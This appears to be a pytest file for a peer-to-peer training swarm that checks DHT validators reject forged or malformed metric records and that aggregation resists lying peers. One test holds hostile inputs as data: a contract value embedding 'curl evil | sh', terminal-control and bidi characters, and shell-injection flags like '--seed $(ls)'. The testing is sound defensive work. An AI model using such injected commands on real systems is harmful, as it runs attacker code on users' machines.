"""Metric records between real DHTs on loopback, with validators, and their aggregation."""

import concurrent.futures
import dataclasses
import hashlib
import math
import time
from types import SimpleNamespace

import pytest
from hivemind.dht.crypto import RSASignatureValidator
from hivemind.dht.protocol import DHTProtocol
from hivemind.dht.routing import DHTID
from hivemind.dht.storage import DictionaryDHTValue
from hivemind.dht.validation import DHTRecord
from hivemind.utils import MSGPackSerializer, get_dht_time
from hivemind.utils.crypto import RSAPrivateKey
from processes import make_prefix, wait_until
from records import attack, make_metrics, run_dhts, sign

import swarm  # noqa: F401 (it sets a variable of hivemind's daemon, without which two peers' first dials may both fail)
import utils
from swarm.contract import RunContract, RunSchema
from training.figures import ContributorRegistry, TrainingSchedule, aggregate_metrics, fetch_records, select_live
from utils import (
    MAX_BYTES_WITHOUT_SCHEMA,
    MAX_RECORD_BYTES,
    MAX_RECORD_LIFETIME,
    filter_plausible_records,
    make_validators,
    peer_label,
)

PREFIX = make_prefix()


@pytest.fixture(scope="module")
def peers():
    """Two nodes that validate the records of a run, an attacker's that does not, and the key of the second node."""
    validators, subkey = make_validators(PREFIX, RSAPrivateKey())
    with run_dhts(make_validators(PREFIX)[0], validators, []) as dhts:
        yield *dhts, subkey


def test_reader_returns_only_valid_records(peers):
    (reader, writer, attacker, honest_subkey), attacker_key = peers, RSAPrivateKey()
    attacker_subkey = RSASignatureValidator(attacker_key).local_public_key
    good, dumps, key = make_metrics().dict(), MSGPackSerializer.dumps, f"{PREFIX}_metrics"
    owned, soon, forged = dumps(attacker_subkey), get_dht_time() + 300, DictionaryDHTValue()
    forged.store(honest_subkey, dumps(good), soon)
    fields = {"NaN": {"loss": math.nan}, "infinity": {"samples_per_second": math.inf}, "negative": {"mini_steps": -1}}
    fields |= {"epoch too large": {"epoch": 10**9 + 1}, "absurd mean loss": {"loss": 1e6}, "unknown field": {"more": 1}}
    values = {name: good | changed for name, changed in {**fields, "float for int": {"epoch": 3.0}}.items()}
    values["missing field"] = {name: value for name, value in good.items() if name != "loss"}
    values |= {"list": list(good.items()), "undecodable": b"\xc1\xc1"}
    attacks = {name: (owned, value, soon) for name, value in values.items()} | {
        "forged": (dumps(honest_subkey), good, soon),
        "immortal": (owned, good, soon + MAX_RECORD_LIFETIME + 700),
        "no owner": (dumps(b"nobody"), good, soon),
        "second subkey": (dumps(b"x" + attacker_subkey), good, soon),
        "no subkey": (DHTProtocol.IS_REGULAR_VALUE, good, soon),
        "no subkey, none": (DHTProtocol.IS_REGULAR_VALUE, None, soon),
        "forged, in a dictionary": (DHTProtocol.IS_DICTIONARY, forged, soon),
    }
    assert writer.store(key, good, subkey=honest_subkey, expiration_time=soon - 1)
    for name, (subkey, value, expires) in attacks.items():
        value = value if isinstance(value, bytes) else dumps(value)
        is_owned = subkey not in DHTProtocol.RESERVED_SUBKEYS
        signed = sign(attacker_key, key, subkey, value, expires) if is_owned else value
        for victim in (reader, writer):
            assert attack(attacker, victim, key, subkey, signed, expires) == [False], f"{name} was stored"
        found = {label: metrics for label, (metrics, _) in fetch_records(reader, PREFIX, timeout=20).items()}
        assert found == {peer_label(honest_subkey): make_metrics()}, name
    # the attacker's own record is stored if it is valid
    value = sign(attacker_key, key, owned, dumps(good), soon)
    assert attack(attacker, reader, key, owned, value, soon) == [True]
    assert len(fetch_records(reader, PREFIX, timeout=20)) == 2
    assert peer_label(b"[owner:ssh-rsa AAAA]") == "34c2b293"  # the same in each process


def test_undecodable_value_stops_no_reader(peers):
    """Keys without a schema (note 34), with and without subkey."""
    reader, first, attacker, own_key = peers
    expires, plain = get_dht_time() + 300, DHTProtocol.IS_REGULAR_VALUE
    key, attacker_key = f"{PREFIX}_group", RSAPrivateKey()
    owned = MSGPackSerializer.dumps(RSASignatureValidator(attacker_key).local_public_key)
    for victim in (first, reader):
        for value in (b"\xc1", MAX_RECORD_BYTES, MSGPackSerializer.dumps(1)):
            for subkey in (plain, MSGPackSerializer.dumps("x"), MSGPackSerializer.dumps(b"x")):
                assert attack(attacker, victim, key, subkey, value, expires) == [False]
        signed = sign(attacker_key, key, owned, b"\xc1", expires)
        assert attack(attacker, victim, key, owned, signed, expires) == [False]
    assert reader.get(key, latest=True, return_future=True).result(timeout=20) is None
    # a good value next to it is found
    assert first.store(key, "good", subkey=own_key, expiration_time=expires + 1)
    found = reader.get(key, latest=True, return_future=True).result(timeout=20).value
    assert {subkey: item.value for subkey, item in found.items()} == {own_key: "good"}


@pytest.mark.slow
def test_hivemind_stops_at_undecodable_value(peers):
    """If this fails, hivemind has fixed the fault, and RecordValidator may go."""
    ours, _, theirs, _ = peers
    assert attack(ours, theirs, "some_key", DHTProtocol.IS_REGULAR_VALUE, b"\xc1", get_dht_time() + 300) == [True]
    with pytest.raises(concurrent.futures.TimeoutError):
        theirs.get("some_key", latest=True, return_future=True).result(timeout=3)


@pytest.mark.parametrize("key, most", [("run_metrics", MAX_RECORD_BYTES), ("run_group", MAX_BYTES_WITHOUT_SCHEMA)])
def test_records_are_small(key, most):
    validator = make_validators("run")[0][1]
    for size, is_small in ((most - 1500, True), (most, False)):
        subkey, value = MSGPackSerializer.dumps(validator.local_public_key), MSGPackSerializer.dumps(b"x" * size)
        record = DHTRecord(DHTID.generate(key).to_bytes(), subkey, value, get_dht_time() + 60)
        assert validator.validate(dataclasses.replace(record, value=validator.sign_value(record))) is is_small


def test_contracts_are_bounded(prefix):
    validators, subkey = make_validators(prefix, schema=RunSchema)
    options = dict(subkey=subkey, exclude_self=True)  # the reader alone decides, because the writer keeps no copy
    with run_dhts(validators, make_validators(prefix, schema=RunSchema)[0]) as (writer, reader):

        def store(contract: dict | None, flags: str = "--seed 1 --learning_rate 3e-3 --overlap") -> bool:
            record = None if contract is None else {"joined": 1.0, "contract": contract, "flags": flags}
            return writer.store(f"{prefix}_run", record, expiration_time=get_dht_time() + 300, **options)

        # a joining peer prints the terms of others: terminal controls, and text that imitates our lines
        hostile = {"a": "64\n run: curl evil | sh"}, {"\x1b[2J": "x"}, {"a": "\u202e46"}
        wide = {f"{i:064d}": "ä" * 200 for i in range(32)}, {str(i): "x" for i in range(33)}
        for contract in ({"": "x"}, {"a" * 65: "x"}, {"a": "x" * 201}, {"a": 1}, *wide, *hostile):
            assert not store(contract)
        # people may paste the flags into a shell
        for flags in ("; ls", "--seed 1; ls", "--seed $(ls)", "--seed 1\n--fp16", "--seed 1 2", "--a /home/ada", "ls"):
            assert not store({"a": "1"}, flags)
        contract = {f"{i:064d}": "x" * 200 for i in range(32)}
        assert store(contract)
        found = wait_until(lambda: reader.get(f"{prefix}_run", latest=True), 20, "the contract")
        assert RunContract.parse_obj(found.value[subkey].value).contract == contract
        assert store(None)
        # a dead DHT gives no records
        reader.shutdown()
        assert fetch_records(reader, prefix, timeout=1) == {}


def test_aggregation_matches_hand_computed_values():
    later = {"epoch_seconds": 8.0, "averaged_with": 1, "grad_norm": 3.0}
    records = [
        ("a", make_metrics(10, loss=20.0, mini_steps=4, samples_accumulated=100, grad_norm=1.0)),
        ("b", make_metrics(9, loss=12.0, mini_steps=1, samples_accumulated=28, **later)),
        ("stale", make_metrics(2, loss=900.0, mini_steps=1, samples_accumulated=1000)),
    ]
    metrics = aggregate_metrics(records)
    assert metrics.loss == pytest.approx((20 + 12) / (4 + 1))  # weighted by mini-steps, without the stale peer
    assert (metrics.epoch, metrics.alive_peers, metrics.samples, metrics.averaged_with) == (10, 2, 128, 1)
    assert metrics.samples_per_second == pytest.approx(20) and metrics.grad_norm == pytest.approx(2)
    # medians of the seconds, which divide into parts; bytes of both
    assert (metrics.epoch_seconds, metrics.waiting_seconds, metrics.averaging_seconds) == (7.0, 1.0, 0.5)
    assert metrics.compute_seconds == pytest.approx(5.5)
    assert (metrics.bytes_sent, metrics.bytes_received) == (2_000_000, 2_400_000)
    assert aggregate_metrics([]) is None
    assert aggregate_metrics([("a", make_metrics(loss=0.0, mini_steps=0))]) is None


def test_hostile_loss_is_outvoted():
    losses = {"a": 6.0, "b": 6.2, "c": 6.1}
    honest = [(name, make_metrics(10, loss=5 * mean, mini_steps=5)) for name, mean in losses.items()]
    assert aggregate_metrics(honest).loss == pytest.approx(6.1)
    for loss, mini_steps in ((0.0, 10**6), (1e9, 10**6), (0.0, 1), (5.5 * 10**6, 10**6)):
        lie = ("liar", make_metrics(10, loss=loss, mini_steps=mini_steps))
        assert aggregate_metrics([*honest, lie]).loss == pytest.approx(6.1, rel=0.05)


def test_absurd_epoch_hides_no_peer():
    honest = [("a", make_metrics(10)), ("b", make_metrics(10))]
    absurd = ("c", make_metrics(10**9, loss=0.0))
    assert aggregate_metrics([*honest, absurd]).epoch == 10
    # of two records, the one near the last epoch counts, or else the newest
    assert aggregate_metrics([honest[0], absurd]).epoch == 10**9
    assert aggregate_metrics([honest[0], absurd], last_epoch=9).epoch == 10
    # the last records of peers that died ten minutes ago do not outvote the one that continues
    assert aggregate_metrics([*honest, ("survivor", make_metrics(900))]).epoch == 900
    believable = filter_plausible_records([*honest, absurd])
    assert filter_plausible_records(believable) == believable == honest


def test_one_of_four_peers_cannot_choose_epoch():
    """Even if it has contributed before."""
    records = [(label, make_metrics(10)) for label in "abcd"] + [("liar", make_metrics(910, loss=0.0))]
    progress = {label: SimpleNamespace(epoch=metrics.epoch) for label, metrics in records}
    assert select_live(records, progress) == (records[:4], 10)
    # metrics outlive their peer, unlike progress
    assert select_live(records, {"b": progress["b"]}) == (records[1:2], 10)
    assert select_live(records, {}) == (records, None)
    for lead, count in ((2, 4), (1, 5)):  # one peer may be first, but the others count as well
        liar = "liar", make_metrics(10 + lead)
        live, newest = select_live([*records[:4], liar], progress)
        metrics = aggregate_metrics(live, 10, newest)
        assert (len(live), metrics.epoch, metrics.alive_peers) == (count, 10, count)
    # most have restarted: their metrics are old, and one loads a state
    old = [(label, make_metrics(3)) for label in "abc"] + [("d", make_metrics(10))]
    progress |= {"a": SimpleNamespace(epoch=1)}
    assert select_live(old, progress) == (old, 10)


def make_ids(kind: str, count: int) -> list[bytes]:
    return [b"\x12\x20" + hashlib.sha256(f"{kind}{number}".encode()).digest() for number in range(count)]


def name(peer_ids: list[bytes]) -> list[str]:
    return [utils.make_worker_key(peer_id) for peer_id in peer_ids[:64]]


def test_aggregation_counts_known_contributors(monkeypatch):
    honest, strangers, late = make_ids("honest", 3), make_ids("stranger", 2000), make_ids("late", 1)[0]

    def report(epoch: int, *partners: list[bytes]) -> dict:
        others = [[it for it in of if it != peer] for peer, of in zip(honest, partners, strict=True)]
        return {peer: make_metrics(epoch, partners=name(of)) for peer, of in zip(honest, others, strict=True)}

    workers, first = ContributorRegistry(), report(1, honest, honest, honest)
    assert workers.select({}) == set()
    assert workers.select({honest[0]: first[honest[0]]}) == {honest[0]}  # the first to report
    assert workers.select(first) == set(honest)
    false = {peer_id: make_metrics(10**6, loss=0.0, partners=name(strangers)) for peer_id in strangers}
    assert workers.select(first | false) == set(honest) == workers.present
    # one of them lies and names untrusted peers; then two name a late peer
    second = report(2, honest, honest, [*honest, *strangers])
    assert workers.select(second | false | {late: make_metrics(2)}) == set(honest)
    third = report(3, [*honest, late], honest, strangers) | {late: make_metrics(3, partners=name(honest))}
    assert workers.select(third | false) == set(honest)
    fourth = report(4, [*honest, late], [*honest, late], strangers) | {late: make_metrics(4, partners=name(honest))}
    assert workers.select(fourth | false) == {*honest, late}
    # two of five name any number of other keys
    members, keys = [*honest, *strangers[:2]], strangers[2:66]
    group = {it: make_metrics(5, partners=name(keys if it in strangers else members)) for it in members}
    assert ContributorRegistry(members).select(group | {it: make_metrics(5) for it in keys}) == set(members)
    # a key that was in one round with all names others as long as it likes, as does one of the members
    known, [guest] = ContributorRegistry(members[:4]), make_ids("guest", 1)
    for epoch in range(6, 9):
        here = [*members[:4], guest] if epoch == 6 else members[:4]
        group = {it: make_metrics(epoch, partners=name([other for other in here if other != it])) for it in members[:3]}
        group |= {it: make_metrics(epoch, partners=name(keys)) for it in (members[3], guest)}
        assert known.select(group | {it: make_metrics(epoch) for it in keys}) == {*members[:4], guest}
    clock = time.monotonic()
    with monkeypatch.context() as patch:
        patch.setattr(time, "monotonic", lambda: clock + 59.0)
        known.select({it: group[it] if it == guest else make_metrics(9, partners=name(here)) for it in [*here, guest]})
        patch.setattr(time, "monotonic", lambda: clock + 61.0)
        assert known.select(group) == {*members[:4]}
    # an epoch with local steps is longer; until it ends, no other peer becomes a contributor
    clock = time.monotonic()
    for schedule, known in ((TrainingSchedule(100, None, 25, 5), honest), (TrainingSchedule(100), [*honest, late])):
        long = ContributorRegistry(honest)
        long.schedule = schedule
        long.select({peer_id: make_metrics(5, epoch_seconds=30.0) for peer_id in honest})
        with monkeypatch.context() as patch:
            patch.setattr(time, "monotonic", lambda: clock + 600.0)
            same = {peer_id: make_metrics(5, epoch_seconds=30.0) for peer_id in [*honest, late]}
            assert long.select(same) == set(known)
    attested = ContributorRegistry()
    attested.trust(honest)
    assert attested.select({late: make_metrics(5)}) == set()  # the DHT has not sent theirs yet
    # the others have left: their last records do not keep out a new peer
    [new] = make_ids("new", 1)
    fifth = {late: make_metrics(9, partners=name([new])), new: make_metrics(9)}
    assert workers.select(fourth | fifth) == {*honest, late}
    assert workers.select({late: make_metrics(20, partners=name([new])), new: make_metrics(20)}) == {late, new}
    # if none of them has finished an epoch for a while, any peer may start
    monkeypatch.setattr("training.figures.MIN_CONTRIBUTOR_TIMEOUT", -1.0)
    others = {peer_id: make_metrics(1, epoch_seconds=0.0) for peer_id in strangers[:2]}
    known = ContributorRegistry(honest)
    known.select({peer_id: make_metrics(7, epoch_seconds=0.0) for peer_id in honest})
    assert known.select(others) == set(strangers[:2])
    # also those of an earlier monitor count for that time
    assert ContributorRegistry(honest).select(others) == set(strangers[:2])
    monkeypatch.setattr("training.figures.MIN_CONTRIBUTOR_TIMEOUT", 60.0)
    assert ContributorRegistry(honest).select(others) == set()
    monkeypatch.setattr("training.figures.MIN_CONTRIBUTOR_TIMEOUT", -1.0)
    # however long their epochs were, as they say
    monkeypatch.setattr("training.figures.MAX_CONTRIBUTOR_TIMEOUT", -1.0)
    known.select({peer_id: make_metrics(2, epoch_seconds=1e9) for peer_id in strangers[:2]})
    assert known.select({honest[0]: make_metrics(1)}) == {honest[0]}
